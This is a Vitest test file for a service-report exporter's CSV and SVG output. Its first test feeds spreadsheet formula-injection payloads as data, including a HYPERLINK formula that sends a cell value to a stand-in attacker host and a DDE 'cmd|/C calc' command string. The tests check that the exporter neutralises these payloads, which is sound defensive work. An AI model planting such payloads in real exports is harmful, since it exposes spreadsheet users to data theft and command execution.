import { describe, expect, it } from 'vitest';
import type { SummaryReport } from '../../db/report-store';
import { reportCsv, reportSvg } from '../../api/report-format';
import { againstTargets, KPI_NAMES, KPI_TARGETS } from '../../domain/kpi';

/** A report with nothing in it but what each test sets. */
function report(overrides: Partial<SummaryReport> = {}): SummaryReport {
  return {
    period: { from: '2026-12-01', to: '2026-12-02', timeZone: 'Asia/Shanghai' },
    tickets: { total: 0, byStatus: {}, byCategory: {}, byPriority: {}, byChannel: {} },
    firstResponse: { averageSeconds: null, p90Seconds: null, compliancePercent: null },
    resolution: { compliancePercent: null, averageSeconds: null },
    averageSecondsToOnSite: null,
    completionRatePercent: null,
    firstTimeFixRatePercent: null,
    repeatRepairRatePercent: null,
    csat: {
      callbacks: 0,
      responsiveness: null,
      professionalism: null,
      attitude: null,
      resolution: null,
      overall: null,
      recommend: null,
    },
    csatTrend: [],
    escalations: { total: 0, byLevel: {}, byReason: {} },
    topCauses: [],
    costs: { averagePartsCostFen: null, averageVisitCostFen: null },
    callbacks: { owed: 0, within24h: 0, within24hPercent: null },
    complaints: {
      responses: 0,
      within24h: 0,
      responseWithin24hPercent: null,
      followUps: 0,
      followUpsInTime: 0,
      followUpCompliancePercent: null,
      repeatRatePercent: null,
      handlingCost: {
        complaints: 0,
        recordedFen: 0,
        remediesFen: 0,
        totalFen: 0,
        averageFenPerComplaint: null,
      },
    },
    complaintAnalysis: {
      complaintTypes: [],
      problemTypes: [],
      liabilities: [],
      dissatisfaction: [],
      satisfaction: [],
    },
    visits: { booked: 0, onTime: 0, onTimeArrivalPercent: null, averageSecondsOnSite: null },
    dispatch: {
      ticketsToDispatch: 0,
      offeredWithin5m: 0,
      offeredWithin5mPercent: null,
      offers: 0,
      answeredWithin15m: 0,
      answeredWithin15mPercent: null,
      accepted: 0,
      bookedWithin30m: 0,
      bookedWithin30mPercent: null,
    },
    qualityChecks: { reviews: 0, passRatePercent: null, byBand: {}, aspects: {} },
    timeouts: {},
    repairsByModel: [],
    topProblems: [],
    targets: [],
    parts: {
      issued: { quantity: 0, value: 0, tickets: 0 },
      averagePartsCostPerTicket: null,
      stockNow: { onHand: 0, value: 0 },
      turnover: null,
      stockOuts: { tickets: 0, ticketsRequestingParts: 0, sharePercent: null },
      topConsumed: [],
    },
    returns: {
      requests: [],
      refunds: { count: 0, totalFen: 0, averageHours: null, maxHours: null },
      outOfWarrantyRevenue: { payments: 0, totalFen: 0 },
      remedies: [],
      quotes: { accepted: 0, declined: 0, expired: 0, acceptanceRate: null },
    },
    ...overrides,
  };
}

const rowsOf = (csv: string) => csv.trimEnd().split('\r\n');

describe('report CSV', () => {
  it('writes text a spreadsheet would run as a formula with a leading apostrophe', () => {
    const causes = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1+cmd|/C calc!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\tTab first',
      '\rReturn first',
      'Worn bearing',
    ];
    const csv = reportCsv(report({ topCauses: causes.map((cause) => ({ cause, count: 1 })) }));
    const lines = rowsOf(csv);
    expect(lines).toEqual(
      expect.arrayContaining([
        `topCauses,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",1`,
        `topCauses,'+1+cmd|/C calc!A0,1`,
        `topCauses,'-2+3,1`,
        `topCauses,'@SUM(A1:A9),1`,
        `topCauses,'\tTab first,1`,
        'topCauses,Worn bearing,1',
      ]),
    );
    // The carriage return is inside a quoted field, after the apostrophe.
    expect(csv).toContain(`topCauses,"'\rReturn first",1\r\n`);
    // No cell of the file starts with a formula character.
    const cells = csv.split(/\r\n/).flatMap((line) => line.split(','));
    expect(cells.filter((cell) => /^"?[=+\-@\t]/.test(cell))).toEqual([]);
  });

  it('writes a part number or model that looks like a formula as text', () => {
    const csv = reportCsv(
      report({
        parts: {
          issued: { quantity: 2, value: 600, tickets: 1 },
          averagePartsCostPerTicket: 600,
          stockNow: { onHand: 8, value: 2_400 },
          turnover: 0.25,
          stockOuts: { tickets: 0, ticketsRequestingParts: 1, sharePercent: 0 },
          topConsumed: [{ model: '=cmd()', partNumber: '@SUM(A1)', quantity: 2, value: 600 }],
        },
      }),
    );
    expect(rowsOf(csv)).toEqual(
      expect.arrayContaining([
        `partsTopConsumed,'@SUM(A1) (=cmd()),2`,
        'parts,issuedValue,600',
        'parts,stockValue,2400',
        'parts,turnover,0.25',
      ]),
    );
  });

  it('writes the returns figures: requests by kind, reason and model, refunds, revenue, remedies, quotes', () => {
    const csv = reportCsv(
      report({
        returns: {
          requests: [
            {
              kind: 'exchange',
              returnReason: 'quality_defect',
              model: 'KFR-1',
              requested: 2,
              approved: 1,
              refused: 1,
              rejected: 0,
            },
          ],
          refunds: { count: 1, totalFen: 129_900, averageHours: 26.5, maxHours: 26.5 },
          outOfWarrantyRevenue: { payments: 2, totalFen: 41_000 },
          remedies: [{ kind: 'voucher', granted: 1, costFen: 5_000 }],
          quotes: { accepted: 2, declined: 1, expired: 1, acceptanceRate: 0.5 },
        },
      }),
    );
    expect(rowsOf(csv)).toEqual(
      expect.arrayContaining([
        'returnRequests,exchange quality_defect (KFR-1),2',
        'returnsRefused,exchange quality_defect (KFR-1),1',
        'refunds,averageHours,26.5',
        'refunds,totalFen,129900',
        'outOfWarrantyRevenue,totalFen,41000',
        'remedyCostFen,voucher,5000',
        'quotes,acceptanceRate,0.5',
      ]),
    );
  });

  it('writes numbers, negative ones too, as numbers', () => {
    const csv = reportCsv(
      report({ firstResponse: { averageSeconds: -5, p90Seconds: 12, compliancePercent: 50 } }),
    );
    expect(rowsOf(csv)).toEqual(
      expect.arrayContaining(['firstResponse,averageSeconds,-5', 'firstResponse,p90Seconds,12']),
    );
  });
});

describe('seed 004’s dispatch standards', () => {
  const dispatch = {
    ticketsToDispatch: 4,
    offeredWithin5m: 1,
    offeredWithin5mPercent: 25,
    offers: 5,
    answeredWithin15m: 4,
    answeredWithin15mPercent: 80,
    accepted: 2,
    bookedWithin30m: 1,
    bookedWithin30mPercent: 50,
  };
  const targets = againstTargets(
    {
      ...(Object.fromEntries(KPI_NAMES.map((kpi) => [kpi, null])) as Record<
        (typeof KPI_NAMES)[number],
        null
      >),
      dispatchWithin5mPercent: 25,
      offersAnsweredWithin15mPercent: 80,
      bookedWithin30mPercent: 50,
    },
    KPI_TARGETS,
  );

  it('writes each figure with its counts and beside its target in the CSV', () => {
    expect(rowsOf(reportCsv(report({ dispatch, targets })))).toEqual(
      expect.arrayContaining([
        'dispatch,ticketsToDispatch,4',
        'dispatch,offeredWithin5mPercent,25',
        'dispatch,answeredWithin15m,4',
        'dispatch,bookedWithin30mPercent,50',
        'kpi,offersAnsweredWithin15mPercent,80',
        'kpiTarget,bookedWithin30mPercent,100',
        'kpiMet,dispatchWithin5mPercent,false',
      ]),
    );
  });

  it('draws every KPI against its target inside the picture', () => {
    const svg = reportSvg(report({ dispatch, targets }));
    for (const line of [
      'Offered to an engineer within 5 min: 25 % (target ≥ 100 %) ✗ below target',
      'Offers answered within 15 min: 80 % (target ≥ 100 %) ✗ below target',
      'Visits booked within 30 min of acceptance: 50 % (target ≥ 100 %) ✗ below target',
    ]) {
      expect(svg).toContain(line);
    }
    const height = Number(/<svg [^>]*height="(\d+)"/.exec(svg)?.[1]);
    const lowest = Math.max(
      ...[...svg.matchAll(/<text x="[\d.]+" y="([\d.]+)"/g)].map((match) => Number(match[1])),
    );
    expect(lowest).toBeLessThan(height);
  });
});
